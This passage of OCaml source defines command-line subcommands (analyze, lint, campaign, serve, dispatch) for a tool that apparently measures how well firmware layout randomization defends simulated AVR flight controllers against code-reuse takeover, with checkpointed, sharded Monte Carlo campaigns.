        (fun (r : Mavr_analysis.Taint.report) ->
          Format.printf "  taint: %d unbounded uplink cop%s (%d nodes, %d iterations)@."
            (List.length r.findings)
            (if List.length r.findings = 1 then "y" else "ies")
            r.nodes r.iterations;
          List.iter
            (fun f -> Format.printf "  @[<v>%a@]@." Mavr_analysis.Taint.pp_finding f)
            r.findings)
        taint_r;
      Option.iter
        (function
          | Ok (s : Mavr_analysis.Equiv.stats) ->
              Format.printf
                "  translation validation: OK — %d functions, %d insns, %d edges, %d funptrs \
                 isomorphic@."
                s.functions s.insns s.edges s.funptrs
          | Error ms ->
              Format.printf "  translation validation: %d mismatch(es)@." (List.length ms);
              List.iteri
                (fun i m ->
                  if i < 10 then Format.printf "    %a@." Mavr_analysis.Equiv.pp_mismatch m)
                ms)
        equiv_r;
      Option.iter
        (fun (ms, stack_top, min_sp, ok) ->
          Format.printf "  stack verify (%d ms flight): static %a vs dynamic %s — %s@." ms
            Sd.pp_bound (Option.get sd).Sd.image_bound
            (match min_sp with
            | Some sp -> Printf.sprintf "%d B (min SP 0x%04x of 0x%04x)" (stack_top - sp) sp stack_top
            | None -> "no SP write observed")
            (if ok then "bound holds" else "VIOLATION"))
        verify_r
    end;
    let clean =
      (match taint_r with Some r -> r.Mavr_analysis.Taint.findings = [] | None -> true)
      && (match equiv_r with Some (Error _) -> false | _ -> true)
      && match verify_r with Some (_, _, _, ok) -> ok | None -> true
    in
    if clean then 0 else 1
  in
  let layouts =
    Arg.(value & opt int 10 & info [ "layouts" ] ~docv:"K"
           ~doc:"Randomized layouts to measure in the survival census.")
  in
  let stack =
    Arg.(value & flag & info [ "stack" ]
           ~doc:"Static worst-case stack bound (interprocedural data-flow).")
  in
  let stack_verify =
    Arg.(value & opt (some int) None & info [ "stack-verify" ] ~docv:"MS"
           ~doc:"Fly the image for $(docv) simulated milliseconds with PARAM_SET uplink \
                 traffic and check the static stack bound dominates the measured SP \
                 watermark (exit 1 on violation).")
  in
  let taint =
    Arg.(value & flag & info [ "taint" ]
           ~doc:"Uplink taint analysis: flag loops that copy through a pointer store under \
                 an unclamped UART-derived exit bound (exit 1 on findings).")
  in
  let validate_seed =
    Arg.(value & opt (some int) None & info [ "validate-seed" ] ~docv:"SEED"
           ~doc:"Randomize with $(docv) and run the translation validator: prove the result \
                 CFG-isomorphic to the seed image modulo relocation (exit 1 on mismatch).")
  in
  Cmd.v
    (Cmd.info "analyze"
       ~doc:"Static analysis: CFG recovery, gadget census, survival under randomization, \
             and the data-flow clients (stack bound, uplink taint, translation validation). \
             Exits 1 when a requested sub-analysis finds a violation.")
    Term.(
      const run $ profile_arg $ toolchain_arg $ layouts $ stack $ stack_verify $ taint
      $ validate_seed $ json_flag)

let cmd_lint =
  let run profile toolchain rseed json =
    let b = build_firmware profile toolchain in
    let img = b.F.Build.image in
    let built = Mavr_analysis.Lint.run img in
    let randomized =
      Option.map (fun seed -> Mavr_analysis.Lint.run (Mavr_core.Randomize.randomize ~seed img)) rseed
    in
    if json then
      print_endline
        (Mavr_telemetry.Json.to_string ~indent:2
           (Mavr_telemetry.Json.Obj
              ([
                 ("profile", Mavr_telemetry.Json.String profile.F.Profile.name);
                 ("findings", Mavr_analysis.Lint.to_json built);
               ]
              @
              match randomized with
              | Some fs -> [ ("randomized_findings", Mavr_analysis.Lint.to_json fs) ]
              | None -> [])))
    else begin
      let report label findings =
        Format.printf "%s %s: %d finding(s)@." profile.F.Profile.name label (List.length findings);
        List.iter (fun f -> Format.printf "%a@." Mavr_analysis.Lint.pp_finding f) findings
      in
      report "built image" built;
      Option.iter (report "randomized image") randomized
    end;
    if built = [] && (match randomized with None | Some [] -> true | Some _ -> false) then 0 else 1
  in
  let rseed =
    Arg.(value & opt (some int) None & info [ "randomized-seed" ] ~docv:"SEED"
           ~doc:"Also lint the image randomized with $(docv).")
  in
  Cmd.v
    (Cmd.info "lint" ~doc:"Check firmware structural invariants (exit 1 on any finding)")
    Term.(const run $ profile_arg $ toolchain_arg $ rseed $ json_flag)

let faults_conv =
  let parse s = Result.map_error (fun e -> `Msg e) (Mavr_fault.Profile.of_string s) in
  let print fmt (p : Mavr_fault.Profile.t) = Format.pp_print_string fmt p.Mavr_fault.Profile.name in
  Arg.conv (parse, print)

(* The campaign JSON document, shared between `campaign --json` and the
   serve handler so a served result byte-matches the CLI's. *)
let campaign_doc ~profile_name ~seed census grid =
  let module J = Mavr_telemetry.Json in
  [
    ("profile", J.String profile_name);
    ("seed", J.Int seed);
    ("census", Mavr_analysis.Survival.to_json census);
    ("grid", Mavr_sim.Montecarlo.to_json grid);
  ]

let cmd_campaign =
  let run profile trials ms layouts seed jobs faults timing no_superblocks trace progress
      checkpoint_path checkpoint_every resume results early_stop es_z es_min es_batch
      abort_after json =
    let module J = Mavr_telemetry.Json in
    let module Span = Mavr_telemetry.Span in
    (* The flag flips the default inherited by every CPU the campaign
       spawns (workers included: the pool re-executes this binary's state
       per domain task via closures, and freshly created CPUs read the
       default at [create] time).  The semantic contract — checked by the
       byte-diff rule in bin/dune — is that the campaign document is
       identical either way. *)
    if no_superblocks then Mavr_avr.Cpu.set_superblocks_default false;
    let b = build_firmware profile F.Profile.mavr in
    let tracer = Option.map (fun _ -> Mavr_campaign.Clock.tracer ()) trace in
    match
      try
        Ok
          (match progress with
          | None -> None
          | Some "-" -> Some ((fun line -> prerr_endline line), None)
          | Some path ->
              let oc = open_out path in
              Some
                ( (fun line ->
                    output_string oc line;
                    output_char oc '\n';
                    flush oc),
                  Some oc ))
      with Sys_error e -> Error e
    with
    | Error e ->
        Format.eprintf "error: cannot open progress sink: %s@." e;
        1
    | Ok progress_sink ->
    let progress_t =
      Option.map (fun (sink, _) -> Mavr_campaign.Progress.create ~sink ()) progress_sink
    in
    match
      try
        Ok
          (Option.map
             (fun target ->
               Mavr_campaign.Early_stop.create ~z:es_z ~min_trials:es_min ~batch:es_batch ~target
                 ())
             early_stop)
      with Invalid_argument m -> Error m
    with
    | Error m ->
        Format.eprintf "error: %s@." m;
        2
    | Ok es ->
    let spec =
      Mavr_sim.Montecarlo.checkpoint_spec ~ms ~faults ?early_stop:es ~traced:(trace <> None)
        ~profile:profile.F.Profile.name ~seed ~trials ()
    in
    match
      (* Per-trial results stream: independent of the snapshot file, so a
         one-shot run can keep a task-level audit trail without resumability. *)
      try
        Ok
          (match results with
          | None -> None
          | Some path ->
              let oc = open_out path in
              Some
                ( (fun line ->
                    output_string oc line;
                    output_char oc '\n';
                    flush oc),
                  oc ))
      with Sys_error e -> Error e
    with
    | Error e ->
        Format.eprintf "error: cannot open results sink: %s@." e;
        1
    | Ok results_sink ->
    let stream = Option.map fst results_sink in
    match
      match (checkpoint_path, resume) with
      | None, true -> Error (`Usage "--resume requires --checkpoint")
      | None, false ->
          if Option.is_none results_sink && Option.is_none abort_after then Ok None
          else Ok (Some (Mavr_campaign.Checkpoint.create ?stream ~every:checkpoint_every spec))
      | Some path, false ->
          Ok (Some (Mavr_campaign.Checkpoint.create ~path ?stream ~every:checkpoint_every spec))
      | Some path, true -> (
          match Mavr_campaign.Checkpoint.resume ~path ?stream ~every:checkpoint_every spec with
          | Ok t -> Ok (Some t)
          | Error m -> Error (`Checkpoint m))
    with
    | Error (`Usage m) ->
        Format.eprintf "error: %s@." m;
        2
    | Error (`Checkpoint m) ->
        Format.eprintf "error: checkpoint: %s@." m;
        2
    | Ok ck ->
    Option.iter (fun t -> Option.iter (Mavr_campaign.Checkpoint.abort_after t) abort_after) ck;
    (* Coordinator lane: the census and grid phases as top-level spans. *)
    let top_lane = Option.map (fun tr -> Span.lane tr ~sort:(-1) "campaign") tracer in
    let phase name f = match top_lane with None -> f () | Some l -> Span.span l name f in
    let pool_stats = ref [||] in
    match
      try
        Ok
          (Mavr_campaign.Clock.time (fun () ->
          (* One pool serves both workloads; per-task seeds come from the
             campaign root, so the output depends only on (--seed, --trials,
             --layouts, --ms, --faults) — never on --jobs or scheduling. *)
          Mavr_campaign.Pool.with_pool ?jobs (fun pool ->
              Option.iter
                (fun p ->
                  Mavr_campaign.Progress.on_heartbeat p (fun () ->
                      [
                        ( "pool",
                          J.List
                            (Array.to_list
                               (Array.map
                                  (fun (d : Mavr_campaign.Pool.domain_stats) ->
                                    J.Obj
                                      [
                                        ("tasks", J.Int d.Mavr_campaign.Pool.tasks_run);
                                        ("busy_s", J.Float d.Mavr_campaign.Pool.busy_s);
                                      ])
                                  (Mavr_campaign.Pool.stats pool))) );
                      ]))
                progress_t;
              let census =
                phase "census" (fun () ->
                    Mavr_analysis.Survival.census ~seed:(Mavr_analysis.Survival.Root seed) ~pool
                      ?tracer ?progress:progress_t ~layouts b.F.Build.image)
              in
              let grid =
                phase "grid" (fun () ->
                    Mavr_sim.Montecarlo.run ~pool ~ms ~faults ?tracer ?progress:progress_t
                      ?early_stop:es ?checkpoint:ck ~seed ~trials b)
              in
              pool_stats := Mavr_campaign.Pool.stats pool;
              (census, grid))))
      with Mavr_campaign.Checkpoint.Corrupt m -> Error m
    with
    | Error m ->
        Format.eprintf "error: checkpoint: %s@." m;
        2
    | Ok ((census, grid), span) ->
    Option.iter Mavr_campaign.Checkpoint.close ck;
    Option.iter (fun (_, oc) -> close_out oc) results_sink;
    Option.iter (fun p -> Mavr_campaign.Progress.emit p ~reason:"final") progress_t;
    Option.iter (fun (_, oc) -> Option.iter close_out oc) progress_sink;
    (match (trace, tracer) with
    | Some path, Some tr -> (
        try
          let oc = open_out path in
          output_string oc (J.to_string (Span.to_trace_event tr));
          output_char oc '\n';
          close_out oc
        with Sys_error e -> Format.eprintf "warning: cannot write trace: %s@." e)
    | _ -> ());
    (* Per-domain utilization rides under the timing key: opt-in, like
       every other wall-clock-dependent field, so the default document
       stays byte-identical for any --jobs. *)
    let pool_json () =
      let st = !pool_stats in
      let busy = Array.fold_left (fun a d -> a +. d.Mavr_campaign.Pool.busy_s) 0.0 st in
      J.Obj
        [
          ( "domains",
            J.List
              (Array.to_list
                 (Array.map
                    (fun (d : Mavr_campaign.Pool.domain_stats) ->
                      J.Obj
                        [
                          ("tasks", J.Int d.Mavr_campaign.Pool.tasks_run);
                          ("busy_s", J.Float d.Mavr_campaign.Pool.busy_s);
                        ])
                    st)) );
          ("busy_s", J.Float busy);
          ("idle_s", J.Float (Float.max 0.0 ((float_of_int (Array.length st) *. span.Mavr_campaign.Clock.wall_s) -. busy)));
        ]
    in
    if json then
      print_endline
        (J.to_string ~indent:2
           (J.Obj
              (campaign_doc ~profile_name:profile.F.Profile.name ~seed census grid
              @
              (* Timing (and the job count that produced it) is opt-in so the
                 default document is byte-identical for every --jobs value. *)
              if timing then
                [
                  ( "timing",
                    J.Obj
                      (("jobs", J.Int (Array.length !pool_stats))
                      :: Mavr_campaign.Clock.span_to_json_fields span
                      @ [ ("pool", pool_json ()) ]) );
                ]
              else [])))
    else begin
      Format.printf "%s: %d-layout census + %d-trial/cell attack grid (root seed %d)@."
        profile.F.Profile.name census.Mavr_analysis.Survival.layouts grid.Mavr_sim.Montecarlo.trials
        seed;
      Format.printf "  %a@." Mavr_analysis.Survival.pp census;
      Format.printf "%a@." Mavr_sim.Montecarlo.pp grid;
      if timing then begin
        Format.printf "completed in %.2f s wall, %.2f s cpu@." span.Mavr_campaign.Clock.wall_s
          span.Mavr_campaign.Clock.cpu_s;
        Array.iteri
          (fun i (d : Mavr_campaign.Pool.domain_stats) ->
            Format.printf "  domain %d: %d tasks, %.2f s busy@." i d.Mavr_campaign.Pool.tasks_run
              d.Mavr_campaign.Pool.busy_s)
          !pool_stats
      end
    end;
    (* The campaign doubles as a defense check: a feasible prebuilt payload
       in any randomized layout, or any takeover under the MAVR defense,
       is an operation failure. *)
    if
      census.Mavr_analysis.Survival.feasible_layouts > 0
      || Mavr_sim.Montecarlo.takeovers grid Mavr_sim.Montecarlo.Mavr_defense > 0
    then 1
    else 0
  in
  let trials =
    Arg.(value & opt int 5 & info [ "trials" ] ~docv:"N" ~doc:"Monte Carlo trials per grid cell.")
  in
  let ms =
    Arg.(value & opt int 900 & info [ "ms" ] ~docv:"MS" ~doc:"Simulated milliseconds per trial.")
  in
  let layouts =
    Arg.(value & opt int 10 & info [ "layouts" ] ~docv:"K" ~doc:"Layouts in the survival census.")
  in
  let seed =
    Arg.(value & opt int 0 & info [ "s"; "seed" ] ~docv:"SEED"
           ~doc:"Campaign root seed; every per-trial seed is split from it.")
  in
  let jobs =
    Arg.(value & opt (some int) None & info [ "j"; "jobs" ] ~docv:"JOBS"
           ~doc:"Worker domains (default: the runtime's recommended count). The output is \
                 bit-identical for any value, including 1.")
  in
  let faults =
    Arg.(value & opt faults_conv Mavr_fault.Profile.none
         & info [ "faults" ] ~docv:"PROFILE"
             ~doc:
               (Printf.sprintf
                  "Fault-injection profile (%s): the grid plus attack-free control flights run \
                   once per intensity level, reporting detection and false-alarm rates per \
                   level."
                  (String.concat ", " Mavr_fault.Profile.names)))
  in
  let timing =
    Arg.(value & flag & info [ "timing" ]
           ~doc:"Include wall/cpu timing (and the job count) in the report. Off by default so \
                 the output is reproducible byte-for-byte across hosts and $(b,--jobs) values.")
  in
  let no_superblocks =
    Arg.(value & flag & info [ "no-superblocks" ]
           ~doc:"Run every emulated CPU with the superblock engine disabled (pure \
                 single-step/cached dispatch). The campaign document is byte-identical either \
                 way — this flag exists to prove it, and as an escape hatch when bisecting \
                 emulator issues.")
  in
  let trace =
    Arg.(value & opt (some string) None
         & info [ "trace" ] ~docv:"FILE"
             ~doc:"Write a Chrome trace_event JSON trace of the campaign to FILE \
                   (Perfetto-loadable): per-task spans with boot/warmup/flight phases on host \
                   time, plus deterministic cycle-stamped flight-recorder lanes. Stripped of \
                   host timing (bin/trace_check --strip), the trace is byte-identical across \
                   $(b,--jobs) values.")
  in
  let progress =
    Arg.(value & opt (some string) None
         & info [ "progress" ] ~docv:"FILE"
             ~doc:"Stream live progress heartbeats to FILE as JSONL ($(b,-) for stderr): \
                   monotonic seq, tasks done/total, rate and ETA, per-cell running detection \
                   tallies, per-domain pool utilization.")
  in
  let checkpoint =
    Arg.(value & opt (some string) None
         & info [ "checkpoint" ] ~docv:"FILE"
             ~doc:"Checkpoint the Monte Carlo grid to FILE (JSONL): a spec-hashed header plus \
                   one entry per completed trial, snapshotted atomically (write-to-temp, \
                   rename) every $(b,--checkpoint-every) trials. A killed campaign restarted \
                   with $(b,--resume) replays the completed frontier and produces output \
                   byte-identical to an uninterrupted run, for any $(b,--jobs).")
  in
  let checkpoint_every =
    Arg.(value & opt int 32 & info [ "checkpoint-every" ] ~docv:"N"
           ~doc:"Rewrite the checkpoint snapshot every $(docv) recorded trials (default 32).")
  in
  let resume =
    Arg.(value & flag & info [ "resume" ]
           ~doc:"Resume from an existing $(b,--checkpoint) file instead of starting fresh. \
                 Exits 2 if the file is corrupt or was written by a different campaign \
                 configuration (spec hash, seed or task count mismatch).")
  in
  let results =
    Arg.(value & opt (some string) None
         & info [ "results" ] ~docv:"FILE"
             ~doc:"Stream per-trial results to FILE as JSONL (header, then one line per trial \
                   outcome as it lands; on $(b,--resume) the already-completed frontier is \
                   replayed first, so the file always covers every completed trial).")
  in
  let early_stop =
    Arg.(value & opt (some float) None
         & info [ "early-stop" ] ~docv:"W"
             ~doc:"Stop each statistical cell adaptively once the Wilson score interval around \
                   its detection (or false-alarm) rate has halfwidth at most $(docv) (0 < W < \
                   1). Trials saved are reported explicitly (per-cell $(b,skipped) counts and \
                   a top-level $(b,trials_skipped) total); cells that never stop keep \
                   byte-identical output to a run without this flag.")
  in
  let es_z =
    Arg.(value & opt float 1.96 & info [ "early-stop-z" ] ~docv:"Z"
           ~doc:"Wilson interval critical value (default 1.96, ~95% confidence).")
  in
  let es_min =
    Arg.(value & opt int 8 & info [ "early-stop-min" ] ~docv:"N"
           ~doc:"Never stop a cell before $(docv) trials (default 8).")
  in
  let es_batch =
    Arg.(value & opt int 4 & info [ "early-stop-batch" ] ~docv:"N"
           ~doc:"Grow each open cell by $(docv) trials per adaptive round (default 4).")
  in
  let abort_after =
    Arg.(value & opt (some int) None
         & info [ "abort-after" ] ~docv:"N"
             ~doc:"(testing) Snapshot the checkpoint and SIGKILL this process after the \
                   $(docv)th live-recorded trial — the crash the $(b,--resume) path must \
                   survive. Used by the kill/resume byte-diff rules in bin/dune.")
  in
  Cmd.v
    (Cmd.info "campaign"
       ~doc:"Deterministic parallel evaluation campaign: gadget-survival census plus the \
             attack-by-defense Monte Carlo grid, optionally swept across fault-injection \
             intensities, checkpointable and resumable ($(b,--checkpoint)/$(b,--resume)) with \
             adaptive per-cell early stopping ($(b,--early-stop)). Exits 1 if any randomized \
             layout keeps the prebuilt payload feasible or any MAVR-defended trial is taken \
             over (at any fault level).")
    Term.(
      const run $ profile_arg $ trials $ ms $ layouts $ seed $ jobs $ faults $ timing
      $ no_superblocks $ trace $ progress $ checkpoint $ checkpoint_every $ resume $ results
      $ early_stop $ es_z $ es_min $ es_batch $ abort_after $ json_flag)

let cmd_serve =
  let run socket stdio max_requests once jobs =
    let module J = Mavr_telemetry.Json in
    (* One request = one campaign spec object; unknown fields are ignored,
       absent ones default exactly like the `campaign` flags, so a served
       result byte-matches `campaign --json` for the same configuration. *)
    let handler req ~progress:send =
      let str k = Option.bind (J.member k req) J.to_str in
      let int k d = Option.value ~default:d (Option.bind (J.member k req) J.to_int) in
      match profile_of_string (Option.value ~default:"100" (str "profile")) with
      | Error (`Msg m) -> Error m
      | Ok profile -> (
          let trials = int "trials" 5 in
          let ms = int "ms" 900 in
          let layouts = int "layouts" 10 in
          let seed = int "seed" 0 in
          match
            match str "faults" with
            | None -> Ok Mavr_fault.Profile.none
            | Some s -> Mavr_fault.Profile.of_string s
          with
          | Error m -> Error m
          | Ok faults -> (
              let es =
                Option.bind (J.member "early_stop" req) (fun es_j ->
                    let f k = Option.bind (J.member k es_j) J.to_float in
                    let i k = Option.bind (J.member k es_j) J.to_int in
                    Option.map
                      (fun target ->
                        Mavr_campaign.Early_stop.create ?z:(f "z") ?min_trials:(i "min_trials")
                          ?batch:(i "batch") ~target ())
                      (f "target_halfwidth"))
              in
              let b = build_firmware profile F.Profile.mavr in
              match J.member "shard" req with
              | None ->
                  let progress_t = Mavr_campaign.Progress.create ~sink:send () in
                  let census, grid =
                    Mavr_campaign.Pool.with_pool ?jobs (fun pool ->
                        let census =
                          Mavr_analysis.Survival.census ~seed:(Mavr_analysis.Survival.Root seed)
                            ~pool ~progress:progress_t ~layouts b.F.Build.image
                        in
                        let grid =
                          Mavr_sim.Montecarlo.run ~pool ~ms ~faults ~progress:progress_t
                            ?early_stop:es ~seed ~trials b
                        in
                        (census, grid))
                  in
                  Mavr_campaign.Progress.emit progress_t ~reason:"final";
                  Ok (J.Obj (campaign_doc ~profile_name:profile.F.Profile.name ~seed census grid))
              | Some shard_j -> (
                  (* Shard request: run only the grid tasks in [lo, hi),
                     streaming every checkpoint entry line down the
                     connection (the dispatcher merges them); the census
                     is the dispatcher's own, deterministic job.  The
                     checkpoint stream and the progress heartbeats come
                     from different worker domains under different locks,
                     so one shared mutex serializes the socket writes. *)
                  match
                    ( Option.bind (J.member "lo" shard_j) J.to_int,
                      Option.bind (J.member "hi" shard_j) J.to_int )
                  with
                  | Some lo, Some hi when 0 <= lo && lo <= hi ->
                      let send_mu = Mutex.create () in
                      let send_locked line =
                        Mutex.lock send_mu;
                        Fun.protect
                          ~finally:(fun () -> Mutex.unlock send_mu)
                          (fun () -> send line)
                      in
                      let spec =
                        Mavr_sim.Montecarlo.checkpoint_spec ~ms ~faults ?early_stop:es
                          ~traced:false ~profile:profile.F.Profile.name ~seed ~trials ()
                      in
                      if hi > spec.Mavr_campaign.Checkpoint.tasks then
                        Error
                          (Printf.sprintf "shard [%d,%d) outside the %d-task grid" lo hi
                             spec.Mavr_campaign.Checkpoint.tasks)
                      else begin
                        let ck = Mavr_campaign.Checkpoint.create ~stream:send_locked spec in
                        let progress_t = Mavr_campaign.Progress.create ~sink:send_locked () in
                        Mavr_campaign.Pool.with_pool ?jobs (fun pool ->
                            Mavr_sim.Montecarlo.run_shard ~pool ~ms ~faults
                              ~progress:progress_t ?early_stop:es ~checkpoint:ck ~lo ~hi ~seed
                              ~trials b);
                        Mavr_campaign.Progress.emit progress_t ~reason:"final";
                        Ok
                          (J.Obj
                             [
                               ("shard", J.Obj [ ("lo", J.Int lo); ("hi", J.Int hi) ]);
                               ( "entries",
                                 J.Int (Mavr_campaign.Checkpoint.completed ck) );
                             ])
                      end
                  | _ -> Error "shard member needs integer lo <= hi")))
    in
    if stdio then begin
      Mavr_campaign.Service.serve_stdio handler;
      0
    end
    else
      match socket with
      | None ->
          Format.eprintf "error: serve needs --socket PATH or --stdio@.";
          2
      | Some path -> (
          let max_requests = if once then Some 1 else max_requests in
          match Mavr_campaign.Service.serve ~socket:path ?max_requests handler with
          | Ok _served -> 0
          | Error m ->
              Format.eprintf "error: serve: %s@." m;
              1)
  in
  let socket =
    Arg.(value & opt (some string) None
         & info [ "socket" ] ~docv:"PATH"
             ~doc:"Listen on a Unix domain socket at $(docv). Each connection sends one \
                   campaign spec line (JSON: profile, trials, ms, layouts, seed, faults, \
                   early_stop) and receives streamed progress heartbeat lines followed by one \
                   terminal line tagged $(b,kind:result) or $(b,kind:error).")
  in
  let stdio =
    Arg.(value & flag & info [ "stdio" ]
           ~doc:"Serve exactly one request over stdin/stdout instead of a socket (same \
                 line protocol; for CI and piping).")
  in
  let max_requests =
    Arg.(value & opt (some int) None
         & info [ "max-requests" ] ~docv:"N"
             ~doc:"Exit after serving $(docv) connections (default: serve forever).")
  in
  let once = Arg.(value & flag & info [ "once" ] ~doc:"Shorthand for $(b,--max-requests) 1.") in
  let jobs =
    Arg.(value & opt (some int) None & info [ "j"; "jobs" ] ~docv:"JOBS"
           ~doc:"Worker domains for served campaigns (default: the runtime's recommended \
                 count). Results are bit-identical for any value.")
  in
  Cmd.v
    (Cmd.info "serve"
       ~doc:"Campaign-as-a-service: accept campaign specs over a local Unix socket (or \
             stdin/stdout with $(b,--stdio)), stream live progress heartbeats, and return the \
             same JSON document $(b,campaign --json) would print. Sequential: one campaign at \
             a time owns the worker pool.")
    Term.(const run $ socket $ stdio $ max_requests $ once $ jobs)

let cmd_dispatch =
  let run profile trials ms layouts seed jobs faults workers spawn nshards heartbeat_timeout
      max_attempts connect_timeout progress early_stop es_z es_min es_batch kill_after json =
    let module J = Mavr_telemetry.Json in
    let module D = Mavr_campaign.Dispatch in
    match
      List.fold_left
        (fun acc a ->
          Result.bind acc (fun l -> Result.map (fun ad -> ad :: l) (D.address_of_string a)))
        (Ok []) workers
    with
    | Error m ->
        Format.eprintf "error: %s@." m;
        2
    | Ok given_rev ->
    let given = List.rev given_rev in
    if trials < 1 then begin
      Format.eprintf "error: dispatch needs --trials >= 1@.";
      2
    end
    else if spawn < 0 then begin
      Format.eprintf "error: --spawn must be >= 0@.";
      2
    end
    else if spawn = 0 && given = [] then begin
      Format.eprintf "error: dispatch needs at least one worker (--worker ADDR or --spawn N)@.";
      2
    end
    else if Option.is_some kill_after && spawn = 0 then begin
      Format.eprintf "error: --kill-worker-after needs a --spawn worker to kill@.";
      2
    end
    else
      match
        try
          Ok
            (Option.map
               (fun target ->
                 Mavr_campaign.Early_stop.create ~z:es_z ~min_trials:es_min ~batch:es_batch
                   ~target ())
               early_stop)
        with Invalid_argument m -> Error m
      with
      | Error m ->
          Format.eprintf "error: %s@." m;
          2
      | Ok es ->
      match
        try
          Ok
            (match progress with
            | None -> None
            | Some "-" -> Some ((fun line -> prerr_endline line), None)
            | Some path ->
                let oc = open_out path in
                Some
                  ( (fun line ->
                      output_string oc line;
                      output_char oc '\n';
                      flush oc),
                    Some oc ))
        with Sys_error e -> Error e
      with
      | Error e ->
          Format.eprintf "error: cannot open progress sink: %s@." e;
          1
      | Ok progress_sink ->
      let progress_t =
        Option.map (fun (sink, _) -> Mavr_campaign.Progress.create ~sink ()) progress_sink
      in
      let name = profile.F.Profile.name in
      let spec =
        Mavr_sim.Montecarlo.checkpoint_spec ~ms ~faults ?early_stop:es ~traced:false
          ~profile:name ~seed ~trials ()
      in
      let shards =
        D.plan ~tasks:spec.Mavr_campaign.Checkpoint.tasks ~block:trials
          ~shards:(match nshards with Some n -> n | None -> spawn + List.length given)
      in
      (* The request a worker receives is the same spec object `serve`
         already parses, plus the shard range; field defaults match the
         `campaign` flags, so spec hashes agree end to end. *)
      let base_fields =
        [
          ("profile", J.String name);
          ("trials", J.Int trials);
          ("ms", J.Int ms);
          ("layouts", J.Int layouts);
          ("seed", J.Int seed);
          ("faults", J.String faults.Mavr_fault.Profile.name);
        ]
        @
        match es with
        | None -> []
        | Some e ->
            [
              ( "early_stop",
                J.Obj
                  [
                    ("target_halfwidth", J.Float (Mavr_campaign.Early_stop.target e));
                    ("z", J.Float (Mavr_campaign.Early_stop.z e));
                    ("min_trials", J.Int (Mavr_campaign.Early_stop.min_trials e));
                    ("batch", J.Int (Mavr_campaign.Early_stop.batch e));
                  ] );
            ]
      in
      let request ~lo ~hi =
        J.Obj (base_fields @ [ ("shard", J.Obj [ ("lo", J.Int lo); ("hi", J.Int hi) ]) ])
      in
      (* Spawned workers come first in the pool, so worker 0 is always
         the one --kill-worker-after SIGKILLs. *)
      let devnull_in = Unix.openfile "/dev/null" [ Unix.O_RDONLY ] 0 in
      let devnull_out = Unix.openfile "/dev/null" [ Unix.O_WRONLY ] 0 in
      let spawned =
        List.init spawn (fun i ->
            let sock = Filename.temp_file (Printf.sprintf "mavr-worker%d-" i) ".sock" in
            let args =
              [ "mavr"; "serve"; "--socket"; sock ]
              @ match jobs with Some j -> [ "-j"; string_of_int j ] | None -> []
            in
            let pid =
              Unix.create_process Sys.executable_name (Array.of_list args) devnull_in
                devnull_out Unix.stderr
            in
            (pid, sock))
      in
      Unix.close devnull_in;
      Unix.close devnull_out;
      let workers_addrs = List.map (fun (_, s) -> D.Unix_socket s) spawned @ given in
      let killed = ref false in
      let w0_entries = ref 0 in
      let on_event = function
        | D.Entry_received { worker = 0; fresh = true; _ } -> (
            incr w0_entries;
            match (kill_after, spawned) with
            | Some n, (pid, _) :: _ when (not !killed) && !w0_entries >= n ->
                killed := true;
                (try Unix.kill pid Sys.sigkill with Unix.Unix_error _ -> ())
            | _ -> ())
        | _ -> ()
      in
      let result =
        Fun.protect
          ~finally:(fun () ->
            List.iter
              (fun (pid, sock) ->
                (try Unix.kill pid Sys.sigkill with Unix.Unix_error _ -> ());
                (try ignore (Unix.waitpid [] pid) with Unix.Unix_error _ -> ());
                try Sys.remove sock with Sys_error _ -> ())
              spawned)
          (fun () ->
            D.run ~heartbeat_timeout_s:heartbeat_timeout ~max_attempts
              ~connect_timeout_s:connect_timeout ?progress:progress_t ~on_event ~spec ~request
              ~block:trials ~workers:workers_addrs ~shards ())
      in
      match result with
      | Error e ->
          Format.eprintf "error: dispatch: %s@." (D.error_to_string e);
          Option.iter (fun (_, oc) -> Option.iter close_out oc) progress_sink;
          3
      | Ok outcome -> (
          (* Merge: prime a fresh checkpoint with every shard's entries
             and run the campaign over it — zero trials execute, the
             early-stop trajectory replays, and the document comes out of
             the exact code path `campaign --json` uses. *)
          let ck = Mavr_campaign.Checkpoint.create spec in
          List.iter
            (fun (i, e) ->
              match e with
              | Mavr_campaign.Checkpoint.Result r -> Mavr_campaign.Checkpoint.record ck ~index:i r
              | Mavr_campaign.Checkpoint.Skip reason ->
                  Mavr_campaign.Checkpoint.skip ck ~index:i ~reason)
            outcome.D.entries;
          let b = build_firmware profile F.Profile.mavr in
          match
            try
              Ok
                (Mavr_campaign.Pool.with_pool ?jobs (fun pool ->
                     let census =
                       Mavr_analysis.Survival.census ~seed:(Mavr_analysis.Survival.Root seed)
                         ~pool ~layouts b.F.Build.image
                     in
                     let grid =
                       Mavr_sim.Montecarlo.run ~pool ~ms ~faults ?early_stop:es ~checkpoint:ck
                         ~seed ~trials b
                     in
                     (census, grid)))
            with Mavr_campaign.Checkpoint.Corrupt m -> Error m
          with
          | Error m ->
              Format.eprintf "error: dispatch merge: %s@." m;
              Option.iter (fun (_, oc) -> Option.iter close_out oc) progress_sink;
              3
          | Ok (census, grid) ->
              Option.iter (fun p -> Mavr_campaign.Progress.emit p ~reason:"final") progress_t;
              Option.iter (fun (_, oc) -> Option.iter close_out oc) progress_sink;
              if json then
                print_endline
                  (J.to_string ~indent:2 (J.Obj (campaign_doc ~profile_name:name ~seed census grid)))
              else begin
                Format.printf
                  "%s: dispatched %d shard(s) over %d worker(s): %d assignment(s), %d worker \
                   failure(s), %d heartbeat(s)@."
                  name (List.length shards) (List.length workers_addrs) outcome.D.assignments
                  outcome.D.worker_failures outcome.D.heartbeats;
                Format.printf "  %a@." Mavr_analysis.Survival.pp census;
                Format.printf "%a@." Mavr_sim.Montecarlo.pp grid
              end;
              if
                census.Mavr_analysis.Survival.feasible_layouts > 0
                || Mavr_sim.Montecarlo.takeovers grid Mavr_sim.Montecarlo.Mavr_defense > 0
              then 1
              else 0)
  in
  let trials =
    Arg.(value & opt int 5 & info [ "trials" ] ~docv:"N" ~doc:"Monte Carlo trials per grid cell.")
  in
  let ms =
    Arg.(value & opt int 900 & info [ "ms" ] ~docv:"MS" ~doc:"Simulated milliseconds per trial.")
  in
  let layouts =
    Arg.(value & opt int 10 & info [ "layouts" ] ~docv:"K" ~doc:"Layouts in the survival census.")
  in
  let seed =
    Arg.(value & opt int 0 & info [ "s"; "seed" ] ~docv:"SEED"
           ~doc:"Campaign root seed; every per-trial seed is split from it.")
  in
  let jobs =
    Arg.(value & opt (some int) None & info [ "j"; "jobs" ] ~docv:"JOBS"
           ~doc:"Worker domains per spawned worker and for the local merge (default: the \
